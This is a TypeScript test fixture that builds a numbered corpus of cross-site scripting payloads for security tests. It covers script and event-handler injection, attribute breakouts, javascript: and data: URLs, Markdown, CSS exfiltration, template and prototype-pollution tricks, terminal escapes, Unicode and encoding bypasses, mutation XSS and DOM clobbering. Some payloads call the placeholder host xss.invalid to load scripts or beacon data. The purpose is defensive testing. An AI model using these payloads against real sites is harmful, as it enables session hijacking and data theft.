/**
 * Texts that would do something if a page took them for more than text: kinds of tricks times the contexts they break out of.
 * `RUN` stands for code, `ID` for the payload's number, by which it can be told which one did something. Each names the
 * careless use (`Sink`) in which it is dangerous; `vulnerable.ts` has them all, so none is a dud.
 */

import { basename } from 'node:path'

/** What a careless page does with a text. */
export type Sink =
  /** Writes it into the document as it is. */
  | 'markup'
  /** Parses it, writes it out and parses it again, as sanitisers do. */
  | 'mutation'
  /** Between quotation marks, apostrophes, or nothing, as the value of an attribute. */
  | 'double'
  | 'single'
  | 'bare'
  /** As the address of a link that is then clicked. */
  | 'link'
  /** Makes markup of Markdown. */
  | 'markdown'
  | 'style'
  /** Evaluates what stands between the delimiters of a template. */
  | 'template'
  /** Into a string of a script: double, single, template, or into a comment. */
  | 'script'
  | 'quoted'
  | 'backtick'
  | 'comment'
  /** Into a string, with a backslash before each quotation mark and none before a backslash. */
  | 'escaped'
  /** JSON within a script, without a thought of `</script>`. */
  | 'json'
  /** Merges parsed JSON into its settings. */
  | 'merge'
  /** Colours of a terminal become elements. */
  | 'terminal'
  /** Makes it simpler (NFKC, without what is not seen, in capitals or small letters) after it was checked. */
  | 'folded'
  | 'stripped'
  | 'upper'
  | 'lower'
  /** Decodes it once more after it was checked: entities, per cent, escapes of JavaScript. */
  | 'decoded'

export interface Payload {
  id: number
  kind: string
  sink: Sink
  text: string
}

/** The host that payloads call; it never exists (RFC 2606). */
export const ELSEWHERE = 'xss.invalid'

const RUNS = ['__xss(ID)', 'alert(ID)', 'top.__xss(ID)', 'fetch(`//xss.invalid/ID`)', 'self[`__x`+`ss`](ID)']
const IMAGE = '<img src=x onerror=RUN>'

const SCRIPTS = [
  '<script>RUN</script>',
  '<SCRIPT>RUN</SCRIPT >',
  '<script\n>RUN</script\n>',
  '<script/x>RUN</script>',
  '<script x="</">RUN</script>',
  '<script type=module>RUN</script>',
  '<script src=//xss.invalid/ID></script>',
  '<script src="data:text/javascript,RUN"></script>',
  '<script async defer src=https://xss.invalid/ID.js></script>',
  '<script>/*<!--*/RUN//--></script>',
  '<svg><script>RUN</script></svg>',
  '<svg><script href="data:text/javascript,RUN" /></svg>',
  '<svg><script>&#95;&#95;xss(ID)</script></svg>',
  '<math><mi><script>RUN</script></mi></math>',
  '<script>setTimeout("__xss(ID)")</script>',
  '<script>import("https://xss.invalid/ID")</script>',
]

/** An element, and the event at which it runs something. */
const EVENTS: [tag: string, event: string, attributes: string][] = [
  ['img', 'onerror', 'src=x'],
  ['img', 'onload', 'src=data:image/gif;base64,R0lGODlhAQABAAAAACw='],
  ['svg', 'onload', 'width=1'],
  ['body', 'onload', 'bgcolor=white'],
  ['body', 'onpageshow', 'lang=en'],
  ['iframe', 'onload', 'src=about:blank'],
  ['video', 'onerror', 'src=x'],
  ['audio', 'onloadstart', 'src=x'],
  ['object', 'onerror', 'data=x'],
  ['embed', 'onload', 'src=x'],
  ['link', 'onerror', 'rel=stylesheet href=x'],
  ['style', 'onload', 'media=all'],
  ['input', 'onfocus', 'autofocus'],
  ['textarea', 'onfocus', 'autofocus'],
  ['select', 'onfocus', 'autofocus'],
  ['button', 'onclick', 'type=button'],
  ['a', 'onmouseover', 'href=#'],
  ['div', 'onpointerenter', 'style=height:9px'],
  ['details', 'ontoggle', 'open'],
  ['dialog', 'onbeforetoggle', 'open popover'],
  ['marquee', 'onwheel', 'loop=1'],
  ['p', 'onanimationstart', 'style=animation-name:x'],
  ['form', 'onformdata', 'method=dialog'],
  ['xss', 'onfocusin', 'tabindex=1 autofocus'],
]

const EVENT_STYLES = [
  (tag: string, event: string, attributes: string) => `<${tag} ${attributes} ${event}=RUN>`,
  (tag: string, event: string, attributes: string) => `<${tag.toUpperCase()}\n${attributes}\t${event}\n=\n"RUN">x`,
  (tag: string, event: string, attributes: string) =>
    `<${tag}/${attributes} ${event[0]?.toUpperCase()}${event.slice(1)}='&#x20;RUN'//>`,
]

/** What follows the end of an attribute's value; before it stands what ends it. */
const BREAKOUTS = [
  ' autofocus onfocus=RUN x=',
  ' onmouseover=RUN x=',
  ' onpointerdown=RUN style=position:fixed;inset:0 x=',
  `>${IMAGE}`,
  '><svg onload=RUN>',
  '><script>RUN</script>',
  '/><details open ontoggle=RUN>',
  ' type=image src=x onerror=RUN x=',
]

const ADDRESSES = [
  'javascript:RUN',
  'JaVaScRiPt:RUN',
  ' \u0001javascript:RUN',
  'java\tscript:RUN',
  'java\nscript:RUN',
  'javascript\r:RUN',
  '\u001fjavascript:void RUN',
  'javascript://example.org/%0aRUN',
  'javascript://%0d%0aRUN//https://example.org/',
  'javascript:/*https://example.org/*/RUN',
  'javascript:%5f%5fxss(ID)',
  'javascript:"<script>RUN</script>"',
  'data:text/html,<script>RUN</script>',
  'data:text/html;base64,BASE64',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="RUN"/>',
  'DATA:text/html;charset=utf-8,%3Cimg src=x onerror=RUN%3E',
]

/** Elements that follow an address by themselves or when they are clicked. */
const FOLLOWED = [
  '<a href=javascript:RUN>x</a>',
  '<a href="&#106;avascript&colon;RUN">x</a>',
  '<a href="java&Tab;script&NewLine;:RUN">x</a>',
  '<map name=x><area shape=default href=javascript:RUN></map><img usemap=#x src=x>',
  '<form action=javascript:RUN><button>x</button></form>',
  '<form><button formaction=javascript:RUN>x</button></form>',
  '<iframe src=javascript:RUN></iframe>',
  '<svg><a xlink:href=javascript:RUN><text y=9>x</text></a></svg>',
  '<svg><a><set attributeName=href to=javascript:RUN /><text y=9>x</text></a></svg>',
  '<math><mtext><a href=javascript:RUN>x</a></mtext></math>',
]

const MARKDOWN = [
  '[x](javascript:RUN)',
  '[x](<javascript:RUN>)',
  '[x](JAVASCRIPT:RUN "title")',
  '<javascript:RUN>',
  '[x]\n\n[x]: javascript:RUN',
  '[x][ID]\n\n[ID]: <data:text/html,%3Cscript%3ERUN%3C/script%3E>',
  '![x](https://xss.invalid/ID)',
  '![x](//xss.invalid/ID "title")',
  '![x][ID]\n\n[ID]: https://xss.invalid/ID',
  '[![x](https://xss.invalid/ID)](javascript:RUN)',
  'before <img src=x onerror=RUN> after',
  '<div>\n\n<svg onload=RUN>\n\n</div>',
  '# <details open ontoggle=RUN>x</details>',
  '- <img src=x onerror=RUN>\n- two',
  '| a | b |\n|---|---|\n| <img src=x onerror=RUN> | 2 |',
  '> <iframe onload=RUN></iframe>',
  '[<img src=x onerror=RUN>](https://example.org)',
  '**<style onload=RUN></style>**',
  '<!-- --><script>RUN</script>',
  '1. ~~<video src=x onerror=RUN></video>~~',
]

const STYLES = [
  'body{background:url(https://xss.invalid/ID)}',
  "body{background-image:url('//xss.invalid/ID')}",
  '@import "https://xss.invalid/ID.css";',
  '@import url(//xss.invalid/ID.css);',
  'p{list-style-image:url(https://xss.invalid/ID);display:list-item}',
  'p::before{content:url(https://xss.invalid/ID)}',
  'p{border-image:url(https://xss.invalid/ID) 1}',
  'p{background:image-set("https://xss.invalid/ID" 1x)}',
  'p{background:\\75rl(https://xss.invalid/ID)}',
  '@font-face{font-family:x;src:url(https://xss.invalid/ID)}p{font-family:x}',
  'input[value^="s"]{background:url(https://xss.invalid/ID)}',
  '</style><script>RUN</script>',
  `</style >${IMAGE}`,
  '}</STYLE\n><svg onload=RUN>',
]

const EXPRESSIONS = [
  "constructor.constructor('RUN')()",
  "[].filter.constructor('RUN')()",
  "''.sub.constructor('RUN')()",
  '(()=>RUN)()',
  "Reflect.construct(Function,['RUN'])()",
]
const DELIMITERS = [
  ['{{', '}}'],
  ['$' + '{', '}'],
  ['<%=', '%>'],
  ['#{', '}'],
] as const

const STRINGS: [Sink, string][] = [
  ['script', '";RUN;//'],
  ['script', '"-RUN-"'],
  ['script', '"+RUN+"'],
  ['escaped', '\\";RUN;//'],
  ['script', '</script><script>RUN</script>'],
  ['script', `</ScRiPt >${IMAGE}`],
  ['quoted', "';RUN;//"],
  ['quoted', "'-RUN-'"],
  ['escaped', '\\"-RUN//'],
  ['backtick', '$' + '{RUN}'],
  ['backtick', '`;RUN;`'],
  ['comment', 'x\nRUN'],
  ['comment', 'x\u2028RUN'],
  ['comment', 'x\u2029RUN//'],
  ['json', '</script><script>RUN</script>'],
  ['json', `</script >${IMAGE}`],
  ['json', '</SCRIPT/><svg onload=RUN>'],
  ['merge', '{"__proto__":{"template":"<img src=x onerror=RUN>"}}'],
  ['merge', '{"constructor":{"prototype":{"template":"<svg onload=RUN>"}}}'],
  ['merge', '{"a":[{"__proto__":{"template":"<iframe onload=RUN>"}}]}'],
]

const ESC = '\u001b'
const TERMINAL = [
  `${ESC}[31m${IMAGE}${ESC}[0m`,
  `${ESC}[1;32m<svg onload=RUN>`,
  `<scr${ESC}[0mipt>RUN</scr${ESC}[0mipt>`,
  `<im${ESC}[Kg src=x onerror=RUN>`,
  `<${ESC}[38;5;9mimg src=x onerror=RUN>`,
  `${ESC}]8;;javascript:RUN${ESC}\\click${ESC}]8;;${ESC}\\`,
  `${ESC}]8;;javascript:RUN\u0007click${ESC}]8;;\u0007`,
  `${ESC}]8;;x"onmouseover="RUN${ESC}\\click${ESC}]8;;${ESC}\\`,
  `${ESC}]0;${IMAGE}\u0007`,
  `${ESC}[31m"><script>RUN</script>${ESC}[m`,
  `\r${ESC}[2K<details open ontoggle=RUN>`,
  `${ESC}]52;c;x\u0007<iframe onload=RUN></iframe>`,
]

const UNICODE: [Sink, string][] = [
  ['folded', '＜img src=x onerror=RUN＞'],
  ['folded', '﹤svg onload=RUN﹥'],
  ['folded', '＜ｓｃｒｉｐｔ＞RUN＜／ｓｃｒｉｐｔ＞'],
  ['folded', '＂＞＜img src=x onerror＝RUN＞'],
  ['folded', '<𝗂𝗆𝗀 src=x ᵒⁿᵉʳʳᵒʳ=RUN>'],
  ['folded', '<ⓢⓥⓖ onload=RUN>'],
  ['stripped', '<scr\u200bipt>RUN</scr\u200bipt>'],
  ['stripped', '<im\u00adg src=x onerror=RUN>'],
  ['stripped', '<sv\u2060g onl\u2060oad=RUN>'],
  ['stripped', '<\ufeffimg src=x onerror=RUN>'],
  ['stripped', '<\u202eimg src=x onerror=RUN>\u202c'],
  ['stripped', '<i\u200dframe on\u200cload=RUN>'],
  ['upper', '<ſcript>RUN</ſcript>'],
  ['upper', '<ımg src=x onerror=RUN>'],
  ['upper', '<ſvg onload=RUN>'],
  ['lower', '<marquee loop=1 onwheel=RUN data-\u212a>'],
  ['lower', '<LIN\u212a rel=stylesheet href=x onerror=RUN>'],
  ['markup', '<img src=x onerror=\\u005f_xss(ID)>'],
  ['markup', '<svg onload=&#x5f;&lowbar;xss(ID)>'],
  ['markup', '<img src=x\u000conerror=RUN\u000c>'],
]

const ENCODED = [
  '&lt;img src=x onerror=RUN&gt;',
  '&#60;svg onload=RUN&#62;',
  '&#x3c;script&#x3E;RUN&#x3c;/script&#x3E;',
  '&amp;lt;img src=x onerror=RUN&amp;gt;',
  '%3Cimg%20src%3Dx%20onerror%3DRUN%3E',
  '%253Csvg%2520onload%253DRUN%253E',
  '\\u003cimg src=x onerror=RUN\\u003e',
  '\\x3csvg onload=RUN\\x3e',
  '\\74script\\76RUN\\74/script\\76',
  '&lt%3Bimg src=x onerror=RUN&gt%3B',
]

/** Elements whose content is text until their own end, which here stands in an attribute. */
const ENDED = ['title', 'textarea', 'style', 'xmp', 'noembed', 'noframes', 'iframe', 'noscript']
const MUTATIONS = [
  '<math><style><img src=x onerror=RUN></style></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>',
  '<svg></p><style><a id="</style><img src=1 onerror=RUN>">',
  '<svg><p><style><a title="</style><img src=x onerror=RUN>">',
  '<math></br><style><!--</style><img src=x onerror=RUN>',
  '<table><a href=x><img src=x onerror=RUN></table>',
  '<b><p></b><select><svg><image href=x onerror=RUN></select></svg>',
  '<svg><desc><img src=x onerror=RUN></desc></svg>',
  '<svg><foreignObject><body onload=RUN><img src=x onerror=RUN></foreignObject></svg>',
  '<template><img src=x></template><img src=x onerror=RUN>',
]

const CLOBBERS = [
  '<form id=settings><input name=script value=//xss.invalid/ID></form>',
  '<a id=settings></a><a id=settings name=script href=//xss.invalid/ID></a>',
  '<img name=getElementById id=xss-ID>',
  '<form name=body id=xss-ID></form>',
  '<form id=xss-ID><input id=attributes><input name=nodeName></form>',
  '<iframe name=settings srcdoc="<a id=script href=//xss.invalid/ID></a>"></iframe>',
  '<embed name=createElement id=xss-ID>',
  '<object id=settings name=xss-ID></object>',
  '<a id=__proto__ name=xss-ID></a>',
  '<form id=root name=xss-ID></form>',
]

const LOADS = [
  '<iframe srcdoc="<script>RUN</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=parent.__xss(ID)&gt;"></iframe>',
  '<iframe src=https://xss.invalid/ID></iframe>',
  '<iframe src="data:text/html,<script>RUN</script>"></iframe>',
  '<meta http-equiv=refresh content="0;url=https://xss.invalid/ID">',
  '<META HTTP-EQUIV="refresh" CONTENT="0; //xss.invalid/ID">',
  '<base href=https://xss.invalid/><img src=ID>',
  '<link rel=stylesheet href=https://xss.invalid/ID>',
  '<link rel=preload as=image href=https://xss.invalid/ID>',
  '<link rel=icon href=https://xss.invalid/ID class=xss-ID>',
  '<object data=https://xss.invalid/ID></object>',
  '<embed src=https://xss.invalid/ID>',
  '<img srcset=https://xss.invalid/ID>',
  '<picture><source srcset=https://xss.invalid/ID><img src=x></picture>',
  '<video poster=https://xss.invalid/ID controls></video>',
  '<svg><image href=https://xss.invalid/ID /></svg>',
  '<input type=image src=https://xss.invalid/ID>',
  '<table background=https://xss.invalid/ID><tr><td>x</table>',
  '<form action=https://xss.invalid/ID><button>x</button></form>',
  '<a href=# ping=https://xss.invalid/ID>x</a>',
  '<p style="background:url(https://xss.invalid/ID)">x</p>',
]

const QUOTES = [
  ['double', '"'],
  ['single', "'"],
  ['bare', ' x'],
] as const

type Entry = [kind: string, sink: Sink, text: string]

const CORPUS: Entry[] = [
  ...of('script', 'markup', SCRIPTS),
  ...EVENTS.flatMap(one => {
    const written = EVENT_STYLES.map(write => write(...one))
    return of('event', 'markup', written)
  }),
  ...QUOTES.flatMap(([sink, end]) => {
    const ended = BREAKOUTS.map(text => end + text + (text.endsWith('=') ? end.trim() : ''))
    return of('attribute', sink, ended)
  }),
  ...of('address', 'link', ADDRESSES),
  ...of('address', 'markup', FOLLOWED),
  ...of('markdown', 'markdown', MARKDOWN),
  ...of('style', 'style', STYLES),
  ...DELIMITERS.flatMap(([open, close]) => {
    const delimited = EXPRESSIONS.map(text => open + text + close)
    return of('template', 'template', delimited)
  }),
  ...STRINGS.flatMap(([sink, text]) => of('string', sink, [text])),
  ...of('terminal', 'terminal', TERMINAL),
  ...UNICODE.flatMap(([sink, text]) => of('unicode', sink, [text])),
  ...of('encoded', 'decoded', ENCODED),
  ...of(
    'mutation',
    'markup',
    ENDED.map(tag => `<${tag}><p title="</${tag}>${IMAGE}">`),
  ),
  ...of('mutation', 'mutation', MUTATIONS),
  ...of('clobbering', 'markup', CLOBBERS),
  ...of('load', 'markup', LOADS),
]

/** They try a third of the corpus each, not the same, so that all of it goes through the application; the others try all. */
const OF_A_THIRD = ['xss.test.ts', 'xss-work.test.ts', 'xss-experiments.test.ts', 'xss-transcript.test.ts']
const place = OF_A_THIRD.indexOf(basename(process.argv[1] ?? ''))

/** Numbered. What the running test file tries; with `WHETSTONE_TEST_WAYS=all` all of them, which takes minutes more. */
export const PAYLOADS: Payload[] = CORPUS.filter(
  (_, index) => place === -1 || index % 3 === place % 3 || process.env.WHETSTONE_TEST_WAYS === 'all',
).map(([kind, sink, text], id) => ({
  id,
  kind,
  sink,
  text: text
    .replaceAll('RUN', chooseRun(kind, id))
    .replaceAll('ID', String(id))
    .replace('BASE64', btoa(`<script>__xss(${id})</script>`)),
}))

function of(kind: string, sink: Sink, texts: string[]): Entry[] {
  return texts.map(text => [kind, sink, text])
}

/** Scripts and events take turns in what they do; elsewhere quotation marks would be in the way. */
function chooseRun(kind: string, id: number): string {
  return (kind === 'event' && RUNS[id % RUNS.length]) || '__xss(ID)'
}
